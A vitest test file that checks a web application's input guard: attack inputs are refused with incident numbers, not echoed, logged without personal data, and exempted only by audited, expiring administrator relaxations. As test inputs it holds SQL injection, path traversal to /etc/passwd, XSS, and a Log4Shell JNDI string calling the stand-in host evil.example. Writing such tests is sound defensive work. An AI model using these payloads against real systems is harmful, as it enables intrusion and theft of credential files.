import { sql } from 'kysely'
import { expect, test } from 'vitest'
import { useApp } from '#test/app.ts'

const app = useApp()
const attack = "x' union select password from account --"

type Problem = { code: string; details: { incident: string } }
type Refusals = { items: { incident: string; mode: string; times: number; excerpt: string; field: string }[] }

async function refusals(): Promise<Refusals['items']> {
  const administrator = await app.as('administrator')
  return ((await administrator.get('/api/guard/refusals?size=100')).body as Refusals).items
}

test('an attack in query, path, body, header or file name is refused with an incident number and not echoed', async () => {
  const analyst = await app.as('analyst')
  const steward = await app.as('steward')
  const replies = [
    await analyst.get(`/api/catalog/datasets?q=${encodeURIComponent(attack)}`),
    await analyst.get(`/api/cases/${encodeURIComponent('../../../../etc/passwd')}`),
    await steward.post('/api/cases', {
      type: 'x',
      data: { a: [{ deep: { er: '<script>alert(1)</script>' } }] },
    }),
    await steward.upload('/api/catalog/import', {
      name: '<svg onload=alert(1)>.csv',
      content: Buffer.from('x'),
    }),
  ]
  for (const reply of replies) {
    expect(reply.status, reply.text).toBe(400)
    const { code, details } = reply.body as Problem
    expect(code).toBe('guard.refused')
    expect(details.incident).toMatch(/^R-\d{6}$/)
    expect(reply.text).not.toMatch(/union|passwd|script|onload/)
  }
  const viaHeader = await app.http.inject({
    url: '/api/identity/me',
    headers: { 'user-agent': '${jndi:ldap://evil.example/a}' },
  })
  expect(viaHeader.statusCode).toBe(400)
  const fields = (await refusals()).map(({ field }) => field)
  expect(fields).toEqual(
    expect.arrayContaining(['query.q', 'path.id', 'body.data.a.deep.er', 'header.user-agent', 'file']),
  )
})

test('a stranger without a right is told that first, and nothing is inspected for him', async () => {
  const before = (await refusals()).length
  const reply = await app.anonymous.post('/api/guard/relaxations', { operation: attack })
  expect(reply.status).toBe(401)
  expect(await refusals()).toHaveLength(before)
})

test('the same within a minute is one record with a count and five audit entries at most, without anything personal', async () => {
  app.clock.set('2026-11-24T02:00:00Z')
  const analyst = await app.as('analyst')
  const payload = "王小明 110101199003070054 a@b.example' union select password from account --"
  for (let i = 0; i < 8; i += 1) await analyst.get(`/api/catalog/datasets?q=${encodeURIComponent(payload)}`)
  const [newest] = await refusals()
  expect(newest).toMatchObject({ times: 8, mode: 'block' })
  expect(newest?.excerpt).not.toMatch(/王|1101011990|a@b/)
  const { rows } = await sql<{ n: number }>`
    select count(*)::int as n from audit.entry
    where action = 'guard.refused' and object_id = ${newest?.incident ?? ''}`.execute(app.ctx().db)
  expect(rows[0]?.n).toBe(5)
})

test('fields that hold code by declaration are reported and reach the use case; others of the route are refused', async () => {
  const reply = await app.anonymous.get(
    `/api/3/action/datastore_search_sql?sql=${encodeURIComponent("select * from read_text('/etc/passwd')")}`,
  )
  expect(reply.text).not.toContain('guard.refused')
  expect((await refusals())[0]).toMatchObject({ mode: 'report', field: 'query.sql' })
  const other = await app.anonymous.get(`/api/3/action/package_show?id=${encodeURIComponent(attack)}`)
  expect(other.body).toMatchObject({ code: 'guard.refused' })
})

test('an administrator lets a field through for a time, with a reason and audited; then it is refused again', async () => {
  const administrator = await app.as('administrator')
  const analyst = await app.as('analyst')
  const search = () => analyst.get(`/api/catalog/datasets?q=${encodeURIComponent(attack)}`)
  expect((await search()).status).toBe(400)
  const exception = {
    operation: 'listDatasets',
    field: 'query.q',
    days: 2,
    reason: 'Names of tables are searched.',
  }
  expect((await analyst.post('/api/guard/relaxations', exception)).status).toBe(403)
  const unknown = await administrator.post('/api/guard/relaxations', { ...exception, operation: 'nothing' })
  expect(unknown.body).toMatchObject({ code: 'guard.unknownOperation' })
  const made = await administrator.post('/api/guard/relaxations', exception)
  expect(made.status, made.text).toBe(201)
  expect((await search()).status).toBe(200)
  app.clock.advance(2 * 86_400_000 + 1)
  expect((await (await app.as('administrator')).get('/api/guard/relaxations')).text).toContain(
    '"active":false',
  )
  expect(
    (await (await app.as('analyst')).get(`/api/catalog/datasets?q=${encodeURIComponent(attack)}`)).status,
  ).toBe(400)
  const { rows } = await sql<{ n: number }>`
    select count(*)::int as n from audit.entry where action = 'guard.inspectionRelaxed'`.execute(app.ctx().db)
  expect(rows[0]?.n).toBe(1)
})

test('a password may look like anything and is never kept', async () => {
  const reply = await app.anonymous.post('/api/identity/session', { username: 'nobody', password: attack })
  expect(reply.status).toBe(401)
})
